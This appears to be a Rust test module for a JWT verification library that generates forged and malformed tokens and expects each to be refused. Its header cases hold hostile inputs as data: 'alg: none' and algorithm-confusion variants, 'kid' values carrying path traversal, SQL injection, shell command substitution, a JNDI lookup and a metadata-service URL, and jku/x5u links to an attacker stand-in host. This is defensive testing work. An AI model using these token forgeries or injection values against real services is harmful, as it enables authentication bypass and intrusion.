//! Headers: what a token says about itself must never be believed.

use munjigi_gate::Refused;
use munjigi_gate::jws::{self, Algorithm, SigningKey};
use serde_json::{Value, json};

use super::Cases;
use super::mint::{Mint, b64, hmac_token};

/// JSON for `alg` that names no algorithm of ours.
const NO_ALGORITHMS: [&str; 47] = [
    r#""none""#,
    r#""None""#,
    r#""NONE""#,
    r#""nOnE""#,
    r#""NonE""#,
    r#"" none""#,
    r#""none ""#,
    r#""none\t""#,
    r#""n one""#,
    r#""none\u0000""#,
    r#""\u006eone""#,
    r#""\u006e\u006f\u006e\u0065""#,
    r#""nоne""#,
    r#""none.""#,
    r#""null""#,
    r#""""#,
    r#"" ""#,
    "null",
    "true",
    "false",
    "0",
    "1",
    "-1",
    "256",
    "1e400",
    "[]",
    "{}",
    r#"["none"]"#,
    r#"["ES256"]"#,
    r#"["HS256","none"]"#,
    r#"{"name":"none"}"#,
    r#""es256""#,
    r#""Es256""#,
    r#""ES256 ""#,
    r#"" ES256""#,
    r#""ES256\u0000""#,
    r#""ES256,none""#,
    r#""hs256""#,
    r#""rs256""#,
    r#""eddsa""#,
    r#""EDDSA""#,
    r#""Ed25519""#,
    r#""Ed448""#,
    r#""RSA1_5""#,
    r#""dir""#,
    r#""A128KW""#,
    r#""RS1""#,
];

/// Registered, but not ours.
const OTHER_ALGORITHMS: [&str; 12] =
    ["HS1", "HS384", "HS512", "ES256K", "ES384", "ES512", "RS384", "RS512", "PS256", "PS384", "PS512", "ESP256"];

pub(super) const OURS: [Algorithm; 4] = [Algorithm::Es256, Algorithm::EdDsa, Algorithm::Rs256, Algorithm::Hs256];

/// A header with every signature that somebody could put under it: the real key's, so that nothing but the header is wrong;
/// that of the good token; and hardly any.
fn under_every_signature(cases: &mut Cases<'_>, what: &str, header: &str, refused: Refused) {
    let mint = cases.mint;
    let unsigned = format!("{}.{}", b64(header), b64(&mint.payload));
    let good = mint.good();
    let borrowed = good.rsplit('.').next().unwrap_or_default();
    cases.add(format_args!("{what}, signed"), mint.signed(header, &mint.payload), refused);
    cases.add(format_args!("{what}, the good token's signature"), format!("{unsigned}.{borrowed}"), refused);
    cases.add(format_args!("{what}, a byte for a signature"), format!("{unsigned}.AA"), refused);
    cases.add(format_args!("{what}, no signature"), format!("{unsigned}."), Refused::Shape);
    // Without the second dot the payload is taken for the signature, and nothing is left in between.
    cases.add(format_args!("{what}, no third part"), unsigned, Refused::Shape);
}

pub(super) fn algorithms(cases: &mut Cases<'_>) {
    let mint = cases.mint;
    for alg in NO_ALGORITHMS {
        under_every_signature(cases, alg, &mint.header_of(alg), Refused::Header);
    }
    let without = format!(r#"{{"typ":"{}","kid":"{}"}}"#, mint.typ, mint.key.kid());
    under_every_signature(cases, "no alg", &without, Refused::Header);
    for other in OTHER_ALGORITHMS {
        under_every_signature(cases, other, &mint.header_of(&format!(r#""{other}""#)), Refused::Header);
    }
    for other in OURS.into_iter().filter(|other| *other != mint.key.algorithm()) {
        under_every_signature(cases, other.name(), &mint.header_of(&format!(r#""{other}""#)), Refused::Algorithm);
    }
    let alg = mint.alg();
    for (one, two) in [(alg, "none"), ("none", alg), (alg, "HS256"), ("HS256", alg), (alg, alg)] {
        for name in [r#""alg""#, r#""\u0061lg""#, r#""a\u006Cg""#] {
            let doubled =
                format!(r#"{{"alg":"{one}",{name}:"{two}","typ":"{}","kid":"{}"}}"#, mint.typ, mint.key.kid());
            under_every_signature(cases, &format!("{one}, then {two} as {name}"), &doubled, Refused::Header);
        }
    }
}

/// JSON for `kid` that names no key.
const NO_KIDS: [&str; 33] = [
    r#""../../../../../../dev/null""#,
    r#""/dev/null""#,
    r#""../../../../proc/sys/kernel/randomize_va_space""#,
    r#""..\\..\\..\\windows\\win.ini""#,
    r#""file:///dev/null""#,
    r#""https://evil.example/key""#,
    r#""http://169.254.169.254/latest/meta-data/""#,
    r#""x' OR '1'='1""#,
    r#""x'; DROP TABLE signing_keys; --""#,
    r#""' UNION SELECT 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA""#,
    r#""x\" OR \"\"=\"""#,
    r#""|/usr/bin/id""#,
    r#""$(id)""#,
    r#""`id`""#,
    r#""${jndi:ldap://evil.example/a}""#,
    r#""{{7*7}}""#,
    r#""%2e%2e%2fdev%2fnull""#,
    r#""a b""#,
    r#""a\n""#,
    r#""a\u0000""#,
    r#""\u202eyek""#,
    r#""ключ""#,
    r#""*""#,
    r#""""#,
    r#"" ""#,
    "null",
    "true",
    "0",
    "1e400",
    "[]",
    "{}",
    r#"["first"]"#,
    r#"{"$ne":null}"#,
];

/// Names that a key could have, but none has.
const UNKNOWN_KIDS: [&str; 8] = ["unknown", "0", "-1", "null", "__proto__", "constructor", "toString", "default"];

pub(super) fn key_ids(cases: &mut Cases<'_>) {
    let mint = cases.mint;
    let (alg, typ, kid) = (mint.alg(), mint.typ, mint.key.kid());
    let header = |kid: &str| format!(r#"{{"alg":"{alg}","typ":"{typ}","kid":{kid}}}"#);
    let quoted = |kid: &str| format!(r#""{kid}""#);
    let too_long = ["k".repeat(65), "k".repeat(2000), format!("{kid}{}", "=".repeat(64))];
    let dressed =
        [format!(" {kid}"), format!("{kid} "), format!("{kid}\\u0000"), format!("./{kid}"), format!("{kid}#")];
    for json in NO_KIDS.map(str::to_owned).into_iter().chain(too_long.iter().chain(&dressed).map(|kid| quoted(kid))) {
        cases.add(&json, mint.signed(header(&json), &mint.payload), Refused::Header);
        // The classics: an empty file, or zeros, as the secret.
        for secret in [&[][..], &[0], &[0; 32]] {
            let symmetric = format!(r#"{{"alg":"HS256","typ":"{typ}","kid":{json}}}"#);
            let what = format!("{json}, HMAC with {} zeros", secret.len());
            cases.add(what, hmac_token(secret, symmetric, &mint.payload), Refused::Header);
        }
    }
    let near = [format!("{kid}x"), kid[1..].to_owned(), kid[..kid.len() - 1].to_owned(), format!("{kid}{kid}")];
    let near = near.iter().filter(|near| jws::is_kid(near)).map(String::as_str);
    for unknown in UNKNOWN_KIDS.into_iter().chain(near) {
        cases.add(unknown, mint.signed(header(&quoted(unknown)), &mint.payload), Refused::UnknownKey);
    }
    let without = format!(r#"{{"alg":"{alg}","typ":"{typ}"}}"#);
    under_every_signature(cases, "no kid", &without, Refused::Header);
    for (one, two) in [(kid, kid), (kid, "unknown"), ("unknown", kid), (kid, ""), ("", kid)] {
        for name in [r#""kid""#, r#""\u006bid""#] {
            let doubled = format!(r#"{{"alg":"{alg}","typ":"{typ}","kid":"{one}",{name}:"{two}"}}"#);
            cases.add(format!("{one:?}, then {two:?} as {name}"), mint.signed(doubled, &mint.payload), Refused::Header);
        }
    }
}

pub(super) fn types(cases: &mut Cases<'_>) {
    let mint = cases.mint;
    let (alg, typ, kid) = (mint.alg(), mint.typ, mint.key.kid());
    let other = if mint.is_access() { "rt+jwt" } else { "at+jwt" };
    let header = |typ: &str| format!(r#"{{"alg":"{alg}","typ":{typ},"kid":"{kid}"}}"#);
    let respelt = [
        typ.to_uppercase(),
        typ[..1].to_uppercase() + &typ[1..],
        format!("application/{typ}"),
        format!("APPLICATION/{typ}"),
        format!(" {typ}"),
        format!("{typ} "),
        format!("{typ}\\u0000"),
        format!("{typ};charset=utf-8"),
        typ.replace('+', "%2B"),
        typ.replace('+', " "),
        typ.replace('+', ""),
    ];
    let others = ["JWT", "jwt", "JOSE", "JOSE+JSON", "JWE", "", "id_token", "logout+jwt", "dpop+jwt", "sd+jwt", other];
    for text in others.into_iter().chain(respelt.iter().map(String::as_str)) {
        cases.add(format!("{text:?}"), mint.signed(header(&format!(r#""{text}""#)), &mint.payload), Refused::Type);
    }
    for json in ["null", "true", "0", "{}", "[]", &format!(r#"["{typ}"]"#), &format!(r#"{{"typ":"{typ}"}}"#)] {
        cases.add(json, mint.signed(header(json), &mint.payload), Refused::Header);
    }
    let without = format!(r#"{{"alg":"{alg}","kid":"{kid}"}}"#);
    under_every_signature(cases, "no typ", &without, Refused::Header);
    for (one, two) in [(typ, typ), (typ, other), (other, typ)] {
        for name in [r#""typ""#, r#""\u0074yp""#] {
            let doubled = format!(r#"{{"alg":"{alg}","typ":"{one}",{name}:"{two}","kid":"{kid}"}}"#);
            cases.add(format!("{one}, then {two} as {name}"), mint.signed(doubled, &mint.payload), Refused::Header);
        }
    }
}

/// Members that say where the key is, how the token is to be read, or what is in it.
const MEMBERS: [&str; 50] = [
    r#""jku":"https://evil.example/jwks.json""#,
    r#""jku":"""#,
    r#""jku":null"#,
    r#""x5u":"https://evil.example/chain.pem""#,
    r#""x5u":"file:///etc/ssl/certs/ca-certificates.crt""#,
    r#""x5c":[]"#,
    r#""x5c":["MIIB"]"#,
    r#""x5c":null"#,
    r#""x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA""#,
    r#""x5t#S256":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA""#,
    r#""jwk":{}"#,
    r#""jwk":null"#,
    r#""jwk":{"kty":"oct","k":"AA"}"#,
    r#""crit":[]"#,
    r#""crit":null"#,
    r#""crit":"exp""#,
    r#""crit":1"#,
    r#""crit":{}"#,
    r#""crit":["exp"]"#,
    r#""crit":["exp","exp"]"#,
    r#""crit":["alg"]"#,
    r#""crit":["crit"]"#,
    r#""crit":[""]"#,
    r#""crit":[null]"#,
    r#""crit":["b64"]"#,
    r#""crit":["b64"],"b64":true"#,
    r#""crit":["b64"],"b64":false"#,
    r#""crit":["https://evil.example/ext"],"https://evil.example/ext":true"#,
    r#""b64":true"#,
    r#""b64":false"#,
    r#""b64":"false""#,
    r#""b64":null"#,
    r#""zip":"DEF""#,
    r#""zip":null"#,
    r#""cty":"JWT""#,
    r#""cty":"jwt""#,
    r#""enc":"A256GCM""#,
    r#""epk":{}"#,
    r#""p2c":2147483647,"p2s":"AA""#,
    r#""iv":"AA","tag":"AA""#,
    r#""url":"https://evil.example/""#,
    r#""nonce":"a""#,
    r#""iss":"https://evil.example""#,
    r#""sub":"admin""#,
    r#""ALG":"none""#,
    r#""Kid":"other""#,
    r#""__proto__":{"alg":"none"}"#,
    r#""constructor":{}"#,
    r#""":"""#,
    r#""\u0000":0"#,
];

pub(super) fn members(cases: &mut Cases<'_>) {
    let mint = cases.mint;
    let own = SigningKey::generate(mint.key.algorithm(), mint.key.kid()).unwrap();
    let attacker = Mint::new(&own, mint.typ, &mint.claims());
    // A key of the attacker's own in the header, properly signed with it: of the same kind, and of a kind that can be shown.
    let shown = SigningKey::generate(Algorithm::Es256, mint.key.kid()).unwrap();
    let shown = Mint::new(&shown, mint.typ, &mint.claims());
    let jwk = shown.jwk().unwrap_or_default();
    let with = |of: &Mint, member: &str, first: bool| {
        let header = of.header();
        let inside = &header[1..header.len() - 1];
        if first { format!("{{{member},{inside}}}") } else { format!("{{{inside},{member}}}") }
    };
    let mut members: Vec<String> = MEMBERS.map(str::to_owned).into();
    members.push(format!(r#""jwk":{jwk}"#));
    members.push(format!(r#""jwk":{}"#, attacker.jwk().unwrap_or_else(|| oct(&own))));
    members.push(format!(r#""x5c":["{}"]"#, b64(shown.public_der().unwrap_or_default())));
    for member in &members {
        for first in [false, true] {
            let header = with(mint, member, first);
            let place = if first { "first" } else { "last" };
            cases.add(format!("{member} {place}, signed"), mint.signed(&header, &mint.payload), Refused::Header);
        }
        for (who, of) in [("the attacker", &attacker), ("the attacker, ES256", &shown)] {
            let token = of.signed(with(of, member, false), &mint.payload);
            cases.add(format!("{member}, signed by {who}"), token, Refused::Header);
        }
    }
}

fn oct(key: &SigningKey) -> Value {
    json!({ "kty": "oct", "k": b64(key.to_bytes()) })
}

pub(super) fn forms(cases: &mut Cases<'_>) {
    let mint = cases.mint;
    let (alg, typ, kid) = (mint.alg(), mint.typ, mint.key.kid());
    let good = mint.header();
    let inside = &good[1..good.len() - 1];
    let texts = [
        format!(r#"["{alg}","{typ}","{kid}"]"#),
        format!(r#"[["alg","{alg}"],["typ","{typ}"],["kid","{kid}"]]"#),
        format!("[{good}]"),
        format!("{good}{good}"),
        format!("{good}x"),
        format!("{good}\0"),
        format!("{good},"),
        format!(" {good}"),
        format!("\n{good}"),
        format!("\u{feff}{good}"),
        format!("\0{good}"),
        format!("/**/{good}"),
        format!("{{/**/{inside}}}"),
        format!("{{{inside},}}"),
        format!("{{,{inside}}}"),
        format!("{{{inside}"),
        format!("{inside}}}"),
        good.replace('"', "'"),
        good.replace("\"alg\"", "alg"),
        good.replace(':', "="),
        good.replace(',', ";"),
        good.replace("\"kid\"", "\"\\ud800kid\""),
        good.replace(kid, "\\ud800"),
        good.replace(kid, &format!("{}[{}", "[".repeat(900), "]".repeat(900))),
        format!("{{\"kid\":{}", "{\"a\":".repeat(300)),
        "[".repeat(1500),
        "{".repeat(1500),
        json!(good).to_string(),
        b64(&good),
        "{}".to_owned(),
        "[]".to_owned(),
        "null".to_owned(),
        "0".to_owned(),
        "\"\"".to_owned(),
        " ".to_owned(),
        "\0".to_owned(),
        format!("{{{}}}", (0..200).map(|n| format!("\"m{n}\":{n}")).collect::<Vec<_>>().join(",")),
        format!("{{{inside},\"kid\":\"{kid}\",\"kid\":\"{kid}\",\"kid\":\"{kid}\"}}"),
    ];
    let mut headers: Vec<Vec<u8>> = texts.iter().map(|text| text.clone().into_bytes()).collect();
    headers.push(good.encode_utf16().flat_map(u16::to_le_bytes).collect());
    headers.push(good.encode_utf16().flat_map(u16::to_be_bytes).collect());
    headers.push(good.replace(kid, "\u{1}").into_bytes());
    for (from, bytes) in [(kid, &[0xff_u8][..]), (kid, &[0xc0, 0x80]), (typ, &[0xed, 0xa0, 0x80]), (alg, &[0x80])] {
        let (before, after) = good.split_once(from).unwrap_or((&good, ""));
        headers.push([before.as_bytes(), bytes, after.as_bytes()].concat());
    }
    for header in headers {
        let what = String::from_utf8_lossy(&header).chars().take(60).collect::<String>();
        cases.add(format!("{what:?}"), mint.signed(&header, &mint.payload), Refused::Header);
    }
}
